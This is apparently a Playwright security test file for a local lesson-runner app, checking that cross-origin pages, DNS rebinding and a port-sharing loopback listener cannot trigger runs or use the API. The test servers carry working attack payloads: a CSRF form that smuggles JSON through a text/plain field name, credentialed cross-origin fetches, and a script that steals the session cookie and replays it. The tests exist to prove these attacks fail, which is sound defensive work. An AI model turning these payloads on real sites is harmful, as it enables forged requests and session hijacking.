/**
 * The browser-borne attacks the guards exist for: a page on another origin (same host, other
 * port, so the browser even sends our cookie) tries every way to start a run; a DNS-rebound
 * name pointing at 127.0.0.1 is refused on every path. Nothing may reach the runner.
 */
import { chromium, expect, test } from '@playwright/test';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { E2E_PORT } from '../../playwright.config.ts';
import { BASE, signIn, stepStatus } from './support.ts';

const RUN = `${BASE}/api/lessons/who-am-i/steps/get-caller-identity/run`;

let attacker: Server;
let attackerUrl: string;
test.beforeAll(async () => {
  attacker = createServer((_req, res) => {
    res.setHeader('content-type', 'text/html');
    res.end(`<!doctype html><body>
      <form id="f" method="POST" action="${RUN}" enctype="text/plain" target="sink"><input name='{"a":"' value='b"}'></form>
      <iframe name="sink"></iframe>
      <img src="${BASE}/api/lessons/who-am-i/steps/get-caller-identity/run">
      <script>
        window.results = {};
        fetch(${JSON.stringify(RUN)}, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: '{}' })
          .then(r => results.noCors = r.type).catch(e => results.noCors = 'error');
        fetch(${JSON.stringify(RUN)}, { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{}' })
          .then(r => results.json = r.status).catch(e => results.json = 'blocked');
        fetch(${JSON.stringify(BASE + '/api/session')}, { credentials: 'include' })
          .then(r => r.text()).then(t => results.read = t).catch(e => results.read = 'blocked');
        document.getElementById('f').submit();
      </script></body>`);
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`;
});
test.afterAll(() => new Promise<void>((resolve) => attacker.close(() => resolve())));

test('a cross-origin page cannot trigger a run or read the API, even with our cookie', async ({ page }) => {
  await signIn(page);
  const before = await stepStatus('who-am-i', 'get-caller-identity');
  await page.goto(attackerUrl);
  await page.waitForFunction(() => (window as any).results?.read !== undefined && (window as any).results?.json !== undefined, null, { timeout: 10_000 });
  const results = await page.evaluate(() => (window as any).results);
  expect(results.json).toBe('blocked');
  expect(results.read).toBe('blocked');
  await page.waitForTimeout(500);
  expect(await stepStatus('who-am-i', 'get-caller-identity')).toBe(before);
});

test('a DNS-rebound host name is refused on every path', async () => {
  const browser = await chromium.launch({
    executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium',
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--no-first-run', `--host-resolver-rules=MAP rebind.test 127.0.0.1`],
  });
  try {
    const page = await browser.newPage();
    for (const path of ['/', '/lessons/who-am-i/', '/api/health', '/api/lessons']) {
      const response = await page.goto(`http://rebind.test:${E2E_PORT}${path}`);
      expect(response?.status(), path).toBe(403);
    }
    const status = await page.evaluate(async (url) => (await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' })).status, `http://rebind.test:${E2E_PORT}/api/lessons/who-am-i/steps/get-caller-identity/run`);
    expect(status).toBe(403);
  } finally {
    await browser.close();
  }
});

test('a program on another loopback port that receives our cookie still cannot use the API', async ({ page }) => {
  // Cookies are not isolated by port: a hostile local listener that gets the browser onto its
  // own port receives the session cookie. It must not be enough.
  let stolen = '';
  const listener = createServer((req, res) => {
    if (req.url === '/steal') stolen = req.headers.cookie ?? '';
    res.setHeader('content-type', 'text/html');
    res.end(req.url === '/steal' ? 'ok' : `<script>fetch('/steal', { credentials: 'include' })</script>`);
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  try {
    await signIn(page);
    await page.goto(`http://127.0.0.1:${(listener.address() as AddressInfo).port}/`);
    await expect.poll(() => stolen).toContain('sts_workshop_session=');
    const response = await fetch(`${BASE}/api/session`, { headers: { cookie: stolen } });
    expect(response.status).toBe(401);
    const run = await fetch(RUN, { method: 'POST', headers: { cookie: stolen, 'content-type': 'application/json', origin: BASE }, body: '{}' });
    expect(run.status).toBe(401);
  } finally {
    await new Promise<void>((resolve) => listener.close(() => resolve()));
  }
});
